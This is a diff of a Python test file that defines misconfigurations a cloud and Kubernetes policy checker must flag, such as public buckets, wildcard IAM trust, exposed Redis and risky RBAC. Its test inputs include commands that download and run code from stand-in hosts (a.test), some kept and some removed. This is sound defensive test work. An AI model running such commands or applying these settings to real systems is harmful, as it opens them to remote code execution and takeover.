@@ -1,4 +1,7 @@
-"""For each rule: edits of a good stack that it must find, and what happens when the property is left out."""
+"""For each rule: edits of a good stack that it must find, and what happens when the property is left out.
+
+Other spellings of the same mistakes are tried on our own stack (tests/graph/test_policy_kinds.py).
+"""
 
 import base64
 from dataclasses import dataclass, replace
@@ -133,14 +136,9 @@ def route(*matches: str) -> Edits:
     return on("route", "spec routes 0 match", *matches)
 
 
-def actions(*names: str) -> list[str]:
-    """Policies of a role that allow each of these."""
-    return [document({**GRANT, "Action": name}) for name in names]
-
-
-def objects(*arns: str) -> list[str]:
-    """Policies of a role for each of these."""
-    return [document({**GRANT, "Resource": arn}) for arn in arns]
+def granting(**change: str) -> str:
+    """The policy of a role, changed."""
+    return document({**GRANT, **change})
 
 
 def allowing(principal: Any) -> str:
@@ -162,15 +160,9 @@ def tagged(key: str, value: Any) -> str:
 SAFE = "Kubernetes' default"
 NAME, PART, PLACE = "app.kubernetes.io/name", "app.kubernetes.io/part-of", "kubernetes.io/metadata.name"
 CONTROL_PLANE = "node-role.kubernetes.io/control-plane"
-METADATA = ("169.254.169.254/32", "169.254.0.0/16", "169.254.169.0/24", "fd00:ec2::254/128", "100.100.100.200/32")
-CIPHERS = ("RSA_WITH_AES_128_CBC_SHA", "RSA_WITH_AES_128_GCM_SHA256", "ECDHE_RSA_WITH_AES_128_CBC_SHA")
-RETENTION, CRITERION = "persistentVolumeClaimRetentionPolicy", "rateLimit sourceCriterion"
+RETENTION = "persistentVolumeClaimRetentionPolicy"
 HOST = "Host(`web.shop.test`)"
-ROOT = "arn:aws:iam::123456789012:"
-GOOGLE_POOL = "projects/1/locations/global/workloadIdentityPools/shop"
 TAGS: Plain = TRUST["Condition"]["StringEquals"]
-SECURE: Plain = TLS_ONLY["Condition"]
-NOBODY: Plain = {"StringEquals": {"aws:userid": "nobody"}}
 AGAIN: Edits = (Edit(resource="data", path=(), value={}),)
 """A second claim of the same identity."""
 
@@ -288,8 +280,6 @@ CASES: dict[str, Case] = {
     ),
     "pod-name-resolution": case(
         web("pod hostAliases", [{"ip": "203.0.113.1", "hostnames": ["cache"]}]),
-        web("pod dnsPolicy", "None", "Default"),
-        web("pod dnsConfig", {"nameservers": ["203.0.113.1"]}, {"searches": ["other.test"]}),
         absent=web("pod hostNetwork"),
         safe="the cluster's DNS is asked",
     ),
@@ -310,9 +300,7 @@ CASES: dict[str, Case] = {
     "pod-service-account": case(web("pod serviceAccountName", "cache", "default"), gone("web-account")),
     "pod-placement": case(
         web("pod tolerations", [{"operator": "Exists"}], [{"key": CONTROL_PLANE, "operator": "Exists"}]),
-        web("pod nodeName", "server"),
         web("pod schedulerName", "mine"),
-        web("pod priorityClassName", "system-node-critical"),
         web("pod runtimeClassName", "host"),
         absent=web("pod hostNetwork"),
         safe="the scheduler decides",
@@ -322,48 +310,26 @@ CASES: dict[str, Case] = {
         web(
             "container env 1",
             variable("JAVA_TOOL_OPTIONS", "-agentlib:jdwp=transport=dt_socket,server=y"),
-            variable("NODE_OPTIONS", "--inspect=0.0.0.0"),
             variable("NODE_OPTIONS", "--require /tmp/a.js"),
-            variable("LD_PRELOAD", "/tmp/a.so"),
-            variable("NODE_TLS_REJECT_UNAUTHORIZED", "0"),
             variable("https_proxy", "http://proxy.test"),
         ),
         web(
             "container command",
             ["java", "-javaagent:/tmp/a.jar", "Main"],
-            ["sh", "-c", "curl -s https://a.test/a | sh"],
             ["sh", "-ec", "apk add --no-cache bash"],
-            ["bash", "-c", "exec 3<>/dev/tcp/a.test/1"],
-            ["npx", "thing"],
             ["python3", "-c", "import urllib.request as u; exec(u.urlopen('http://a').read())"],
             ["node", "https://a.test/a.mjs"],
         ),
-        web("container lifecycle postStart", {"exec": {"command": ["wget", "https://a.test/a"]}}),
         each("command", ["pip", "install", "thing"]),
         absent=web("container env"),
         safe="nothing is in the environment",
     ),
     "uploads-authorised": case(
         on("uploads", "container args 0", "--hooks-http=http://hook.shop.svc/hooks"),
-        on("uploads", ",".join(["container args", *(f"container args {index}" for index in range(1, 9))])),
-        on("uploads", "container args 3", "--disable-termination=false"),
-        on("uploads", "container args 9", "--expose-pprof", "--disable-download=0"),
-        on("uploads", "container args 1", "word", "-hooks-enabled-events=post-finish"),
-        on("uploads", "pod containers 1 args 1", "0.0.0.0:8081", ":8081"),
-        on("uploads", "pod containers 1"),
+        on("uploads", "container args,container args 7,container args 8"),
     ),
     "redis-configuration": case(
-        on(
-            "redis",
-            "data redis.conf",
-            "maxmemory 1\nprotected-mode no\n",
-            "cluster-enabled yes\nmaxmemory-policy allkeys-lru\n",
-            "cluster-enabled yes\nmaxmemory 1\n",
-            "port 1\nuser default on nopass ~* +@all\n",
-            "port 1\nenable-debug-command yes\n",
-            "port 1\nbind 0.0.0.0\n",
-        ),
-        on("redis", "data start.sh", "exec redis-server --protected-mode no\n"),
+        on("redis", "data redis.conf", "maxmemory 1\nprotected-mode no\n", "cluster-enabled yes\nmaxmemory 1\n"),
         web("container command", ["redis-server", "--protected-mode", "no"]),
         absent=on("redis", "data"),
         safe="Redis is protected by itself",
@@ -371,11 +337,8 @@ CASES: dict[str, Case] = {
     "gate-patterns": case(
         web(
             "container args",
-            ["--read=.*"],
-            ["--read", "abc/.{3}"],
-            *(["--read=" + keys] for keys in ("abc/[^/]{3}", "abc/d|e", "abc/[a-z]+", "[a-z]{3}")),
-            *(["--upload=" + rule] for rule in ("a:5368709120:abc/d", "a:1000:.*", "abc/d")),
-            ["--read=abc/[a-z]{3}", "--s3-endpoint=http://203.0.113.1"],
+            *(["--read=.*"], ["--read", "abc/.{3}"], ["--upload=abc/d"]),
+            *(["--read=" + keys] for keys in ("abc/d|e", "abc/[a-z]+", "[a-z]{3}")),
         ),
         absent=web("container args", ["--upload=a::abc/d"]),
     ),
@@ -431,30 +394,8 @@ CASES: dict[str, Case] = {
     "network-wide": case(
         on("web-policy", "spec egress 1 to 0", *map(block, ("0.0.0.0/0", "2000::/3", "everywhere"))),
         on("web-policy", "spec egress 1 to 0", {"ipBlock": {}, "podSelector": {}}),
-        on("web-policy", "spec egress 1 to"),
-        on(
-            "web-policy",
-            "spec egress 1 to 0 podSelector",
-            ABSENT,
-            expression(NAME, "Exists"),
-            expression(NAME, "NotIn", "nobody"),
-            expression("nothing", "DoesNotExist"),
-            expression(NAME, "In", "cache", "web"),
-            labelled(PART, "shop"),
-            labelled("app.kubernetes.io/instance", "shop"),
-        ),
-        on(
-            "web-policy",
-            "spec egress 1 to 0 namespaceSelector",
-            {},
-            expression(PLACE, "Exists"),
-            labelled("pod-security.kubernetes.io/enforce", "restricted"),
-        ),
-        on("web-policy", "spec egress 1 ports", [{"protocol": "TCP"}]),
-        on("web-policy", "spec egress 1 ports 0 endPort", 65535),
-        on("web-policy", "spec podSelector", labelled(PART, "shop")),
-        on("cache-policy", "spec ingress 2", {"from": [block("10.0.0.0/16")]}),
-        on("web-policy", "type", "kubernetes:cilium.io/v2:CiliumNetworkPolicy"),
+        on("web-policy", "spec egress 1 to,spec egress 1 to 0 podSelector"),
+        on("web-policy", "spec egress 1 to 0 podSelector", expression(NAME, "In", "cache", "web")),
         absent=on("web-policy", "spec egress 1 ports"),
         also="ingress-backends network-agreement network-metadata network-pod-policy network-proxy",
     ),
@@ -466,7 +407,7 @@ CASES: dict[str, Case] = {
         absent=on("cache-policy", "spec ingress 1"),
     ),
     "network-metadata": case(
-        on("task-policy", "spec egress 1", *map(metadata, METADATA)),
+        on("task-policy", "spec egress 1", metadata("169.254.169.254/32"), metadata("100.100.100.200/32")),
         on("task-policy", "spec egress 1", metadata("169.254.170.23/32", 8080)),
         on("task-policy", "spec egress 1", metadata("169.254.169.254/32", 53, endPort=80)),
         on("task-policy", "spec egress 1", metadata("169.254.170.23/32", 80, endPort=8080)),
@@ -533,27 +474,16 @@ CASES: dict[str, Case] = {
         safe="a role without rules allows nothing",
     ),
     "rbac-broad-bindings": case(
-        on("binding", "roleRef name", "cluster-admin", "view", "system:node"),
+        on("binding", "roleRef name", "cluster-admin", "system:node"),
         on("binding", "subjects 0", {"kind": "Group", "name": "system:authenticated"}),
         on("binding", "subjects 0", {"kind": "Group", "name": "system:serviceaccounts:shop"}),
-        on("binding", "subjects 0", {"kind": "User", "name": "somebody"}),
         on("binding", "subjects 0 name", "default"),
         on("binding", "subjects 0 namespace", "elsewhere"),
         absent=on("binding", "roleRef"),
     ),
     "rbac-dangerous": case(
-        on(
-            "role",
-            "rules 0",
-            rights("", "secrets", "get", "list"),
-            *(rights("", name, "create") for name in ("pods/exec", "pods", "serviceaccounts/token")),
-            rights("", "nodes/proxy", "get"),
-            rights("rbac.authorization.k8s.io", "clusterroles", "escalate"),
-            rights("rbac.authorization.k8s.io", "rolebindings", "create"),
-            rights("", "users", "impersonate"),
-            rights("a", "mutatingwebhookconfigurations", "update"),
-            rights("a", "networkpolicies", "delete"),
-        ),
+        on("role", "rules 0", rights("", "secrets", "get", "list")),
+        on("role", "rules 0", rights("rbac.authorization.k8s.io", "rolebindings", "create")),
         absent=on("role", "rules"),
         safe="a role without rules allows nothing",
     ),
@@ -593,10 +523,8 @@ CASES: dict[str, Case] = {
         on("tls", "spec minVersion", "VersionTLS11"),
         on("route", "spec tls options"),
         gone("tls"),
-        on("tls", "spec maxVersion", "VersionTLS11", "VersionTLS12"),
         on("tls", "spec cipherSuites"),
-        on("tls", "spec cipherSuites 0", *(f"TLS_{name}" for name in CIPHERS)),
-        on("tls", "spec sniStrict", False, ABSENT),
+        on("tls", "spec sniStrict"),
         files("traefik.io/v1alpha1:TLSStore"),
     ),
     "ingress-admin": case(
@@ -613,20 +541,11 @@ CASES: dict[str, Case] = {
         safe="there is no such object",
     ),
     "ingress-hosts": case(
-        route(
-            "PathPrefix(`/`) && Method(`GET`)",
-            "HostRegexp(`.*`) && Method(`GET`) && Path(`/shop`)",
-            "Host(`web.shop.test`) && Method(`GET`) && Path(`/a`) || Method(`GET`) && Path(`/a`)",
-            "!Host(`a.shop.test`) && Method(`GET`) && Path(`/a`)",
-            "Host(`*`) && Method(`GET`) && Path(`/a`)",
-            "Host(`web.shop.test`) && (Method(`GET`)",
-        ),
+        route("PathPrefix(`/`) && Method(`GET`)", "Host(`*`) && Method(`GET`) && Path(`/a`)"),
         also="ingress-scope tls-names",
     ),
     "ingress-backends": case(
         on("route", "spec routes 0 services 0 name", "cache", "gone"),
-        on("route", "spec routes 0 services 0 port", 9999),
-        on("route", "spec routes 0 services 0 kind", "TraefikService"),
         on("route", "spec routes 0 services"),
         absent=on("route", "spec routes 0 services 0 port"),
         also="emulator-exposed network-proxy",
@@ -634,23 +553,15 @@ CASES: dict[str, Case] = {
     "ingress-scope": case(
         route(
             f"{HOST} && Method(`GET`) && PathPrefix(`/`)",
-            f"{HOST} && Path(`/shop`)",
-            f"{HOST} && Method(`GET`)",
-            f"{HOST} && Method(`DELETE`) && Path(`/shop`)",
-            f"{HOST} && Method(`GET`) && PathRegexp(`^/shop/.*$`)",
-            f"{HOST} && Method(`GET`) && PathRegexp(`/shop`)",
             f"{HOST} && Method(`GET`) && PathRegexp(`^/shop|$`)",
             f"{HOST} && Method(`GET`) && !Path(`/shop`)",
             f"{HOST} && (Method(`GET`) && Path(`/shop`) || Method(`POST`))",
         ),
-        on("route", "spec routes 0 priority", 1000),
         absent=route(HOST),
     ),
     "ingress-limits": case(
-        on("rate", "spec rateLimit average", 1_000_000_000, ABSENT, 0),
-        on("rate", "spec rateLimit period", "1us"),
-        on("rate", "spec rateLimit burst", 1_000_000),
-        on("in-flight", "spec inFlightReq amount", 0, 1_000_000),
+        on("rate", "spec rateLimit average", 1_000_000_000, ABSENT),
+        on("in-flight", "spec inFlightReq amount", 0),
         on("limits", "spec chain middlewares 1 name", "gone"),
         gone("rate"),
         absent=on("route", "spec routes 0 middlewares 0"),
@@ -658,20 +569,16 @@ CASES: dict[str, Case] = {
     "ingress-headers": case(
         on("headers", "spec headers customRequestHeaders Forwarded", "for=a"),
         on("route", "spec routes 0 middlewares 1"),
-        on("headers", "spec headers stsSeconds", 0, ABSENT),
+        on("headers", "spec headers stsSeconds"),
         on("headers", "spec headers contentTypeNosniff,spec headers customRequestHeaders X-Proxied-Https"),
         also="ingress-trust",
     ),
     "ingress-trust": case(
-        on("rate", f"spec {CRITERION}", {"ipStrategy": {"depth": 1}}, {"requestHeaderName": "X-Key"}),
-        on("rate", f"spec {CRITERION}", {"ipStrategy": {"excludedIPs": ["10.0.0.0/8"]}}),
+        on("rate", "spec rateLimit sourceCriterion", {"ipStrategy": {"depth": 1}}),
+        on("rate", "spec rateLimit sourceCriterion", {"ipStrategy": {"excludedIPs": ["10.0.0.0/8"]}}),
         on("https", "spec ipAllowList", {"sourceRange": ["0.0.0.0/0"]}),
-        on("https", "spec ipAllowList", {"sourceRange": ["10.0.0.1"], "ipStrategy": {"depth": 1}}),
-        on("https", "spec forwardAuth", {"address": "http://web.shop.svc", "trustForwardHeader": True}),
         on("https", "spec forwardAuth", {"address": "https://auth.test"}),
-        on("https", "spec plugin", {"a": {}}),
         on("https", "spec redirectRegex", {"regex": ".*", "replacement": "https://a.test/"}),
-        on("headers", "spec headers customRequestHeaders X-Forwarded-For", "203.0.113.1"),
         on("headers", "spec headers accessControlAllowOriginList", ["*"]),
         on("route", "spec routes 0 services 0 serversTransport", "gone"),
         absent=on("rate", "spec rateLimit burst"),
@@ -710,9 +617,6 @@ CASES: dict[str, Case] = {
     "s3-public-access": case(
         aws("bucket-access", "blockPublicPolicy", False),
         gone("bucket-access", cloud=True),
-        aws("bucket", "acl", "public-read"),
-        aws("bucket", "website", {"indexDocument": "index.html"}),
-        aws("bucket", "corsRules", [{"allowedOrigins": ["*"], "allowedMethods": ["GET"]}]),
         aws("bucket", "grants", [{"uri": "http://acs.amazonaws.com/groups/global/AllUsers"}]),
         absent=aws("bucket-access", "ignorePublicAcls"),
     ),
@@ -720,12 +624,11 @@ CASES: dict[str, Case] = {
         aws("bucket-policy", "policy", document({**TLS_ONLY, "Effect": "Allow"})),
         gone("bucket-policy", cloud=True),
         aws("bucket-policy", "policy", document({**TLS_ONLY, "Resource": "arn:aws:s3:::shop-config/*"})),
-        aws("bucket-policy", "policy", document({**TLS_ONLY, "Condition": {}}), document(TLS_ONLY), document(TLS_12)),
-        aws("bucket-policy", "policy", document({**TLS_ONLY, "Condition": {**SECURE, **NOBODY}}, TLS_12)),
+        aws("bucket-policy", "policy", document({**TLS_ONLY, "Condition": {}}), document(TLS_12)),
         also="s3-grants",
     ),
     "s3-grants": case(
-        aws("bucket-policy", "policy", *map(allowing, ({"AWS": "999999999999"}, "*", {"AWS": "*"}))),
+        aws("bucket-policy", "policy", *map(allowing, ({"AWS": "999999999999"}, {"AWS": "*"}))),
         aws("bucket-policy", "policy", allowing({"Service": "cloudfront.amazonaws.com"})),
         absent=aws("bucket-policy", "policy", allowing(None)),
     ),
@@ -754,11 +657,7 @@ CASES: dict[str, Case] = {
     ),
     # --- IAM
     "iam-wildcards": case(
-        aws("grant", "policy", *actions("dynamodb:*", "dynamodb:Get*", "dynamodb:?etItem", "d*:GetItem")),
-        aws("grant", "policy", *objects("*", "arn:aws:dynamodb:::table/*", "arn:aws:s3:::shop-*")),
-        aws("grant", "policy", *objects("arn:aws:dynamodb:eu-west-1:123456789012:table/acc*")),
-        aws("grant", "policy", *objects("arn:aws:dynamodb:*:123456789012:table/accounts")),
-        aws("grant", "policy", *objects("arn:aws:dynamodb:eu-west-1:*:table/accounts")),
+        aws("grant", "policy", granting(Action="dynamodb:*"), granting(Resource="*")),
         aws("grant", "policy", document({"Effect": "Allow", "NotAction": "iam:*", "Resource": "arn:a:b:::c"})),
         aws("grant", "policy", document({"Effect": "Allow", "Action": "s3:GetObject"})),
         aws("grant", "policy", document({"Effect": "Allow", "Resource": "arn:aws:s3:::a/*"}), "no JSON"),
@@ -766,26 +665,15 @@ CASES: dict[str, Case] = {
         also="iam-data-only",
     ),
     "iam-data-only": case(
-        aws("grant", "policy", *actions("iam:CreateAccessKey", "iam:PassRole", "sts:AssumeRole")),
-        aws("grant", "policy", *actions("dynamodb:DeleteTable", "kms:PutKeyPolicy")),
-        aws("grant", "policy", *objects("arn:aws:dynamodb:eu-west-1:999999999999:table/accounts")),
+        aws("grant", "policy", granting(Action="iam:CreateAccessKey"), granting(Action="dynamodb:DeleteTable")),
+        aws("grant", "policy", granting(Resource="arn:aws:dynamodb:eu-west-1:999999999999:table/accounts")),
         absent=aws("table", "name"),
         safe="a policy that is not there allows nothing",
     ),
     "iam-trust": case(
-        aws(
-            "role",
-            "assumeRolePolicy",
-            trusting(Principal="*"),
-            *(trusting(Principal={"AWS": name}) for name in ("*", f"{ROOT[:13]}999999999999:root", f"{ROOT}root")),
-            trusting(Principal={"Federated": f"{ROOT}oidc-provider/a.test"}),
-            trusting(Condition={}),
-            *(trusting(Condition={operator: TAGS}) for operator in ("StringLike", "StringEqualsIfExists")),
-            *(tagged("aws:RequestTag/kubernetes-service-account", name) for name in ("*", "cache")),
-            tagged("aws:RequestTag/kubernetes-namespace", ["shop", "other"]),
-            tagged("aws:SourceAccount", "999999999999"),
-            trusting(Action="sts:*"),
-        ),
+        aws("role", "assumeRolePolicy", trusting(Principal="*"), trusting(Condition={}), trusting(Action="sts:*")),
+        aws("role", "assumeRolePolicy", tagged("aws:RequestTag/kubernetes-namespace", ["shop", "other"])),
+        aws("role", "assumeRolePolicy", tagged("aws:SourceAccount", "999999999999")),
         aws("association", "serviceAccount", "cache"),
     ),
     "iam-access-keys": case(
@@ -799,20 +687,17 @@ CASES: dict[str, Case] = {
     "kms-policy": case(
         aws("kms", "policy", document({"Effect": "Allow", "Principal": "*", "Action": "kms:*"}), "{}"),
         aws("kms", "policy", document({"Effect": "Allow", "Principal": {"AWS": "999999999999"}})),
-        aws("kms", "bypassPolicyLockoutSafetyCheck", True),
         absent=aws("kms", "deletionWindowInDays"),
         safe="AWS gives the key to its account",
     ),
     "kms-available": case(
         aws("kms", "isEnabled", False),
-        aws("kms", "deletionWindowInDays", 7),
         aws("kms", "keyUsage", "SIGN_VERIFY"),
         absent=aws("kms", "deletionWindowInDays"),
         safe="AWS waits 30 days",
     ),
     "kms-account": case(
         aws("table", "serverSideEncryption kmsKeyArn", "arn:aws:kms:eu-west-1:999999999999:key/1"),
-        aws("redis", "kmsKeyId", "arn:aws:kms:eu-west-1:999999999999:key/1"),
         safe="AWS takes a key of the account",
     ),
     "elasticache-failover": case(
@@ -821,16 +706,14 @@ CASES: dict[str, Case] = {
         aws("redis", "replicasPerNodeGroup", 0, ABSENT),
     ),
     "elasticache-eviction": case(
-        aws("parameters", "parameters 1 value", "allkeys-lru", "volatile-lru"),
+        aws("parameters", "parameters 1 value", "allkeys-lru"),
         aws("redis", "parameterGroupName", "default.valkey8", ABSENT),
         absent=aws("parameters", "parameters 1"),
     ),
     "security-group-wide": case(
-        aws("opening", "cidrIpv4", "0.0.0.0/0", "10.0.0.0/8", "8.8.8.0/24"),
-        aws("opening", "cidrIpv6", "::/0"),
-        aws("opening", "ipProtocol", "-1"),
+        aws("opening", "cidrIpv4", "0.0.0.0/0", "8.8.8.0/24"),
         aws("opening", "fromPort", 0),
-        aws("opening", "toPort", 65535, ABSENT),
+        aws("opening", "toPort"),
         absent=aws("opening", "ipProtocol"),
     ),
     "cloud-data-protected": case(
@@ -838,8 +721,6 @@ CASES: dict[str, Case] = {
     ),
     "provider-options": case(
         aws("provider", "skipCredentialsValidation,insecure", "true"),
-        aws("provider", "endpoints", '[{"s3": "http://a.test"}]'),
-        aws("provider", "secretKey", "horse"),
         aws("provider", "bigtableCustomEndpoint", "https://a.test"),
         absent=aws("provider", "allowedAccountIds"),
     ),
@@ -862,9 +743,8 @@ CASES: dict[str, Case] = {
         aws("groups", "automatedBackupPolicy retentionPeriod", "0"), absent=aws("groups", "automatedBackupPolicy")
     ),
     "bigtable-access": case(
-        aws("member", "member", "allUsers", "allAuthenticatedUsers", "user:somebody@example.org"),
-        aws("member", "member", f"principalSet://iam.googleapis.com/{GOOGLE_POOL}/*"),
-        aws("member", "role", "roles/bigtable.admin", ABSENT),
+        aws("member", "member", "allUsers", "user:somebody@example.org"),
+        aws("member", "role"),
         aws("member", "type", "gcp:projects/iAMMember:IAMMember"),
     ),
     # --- certificates
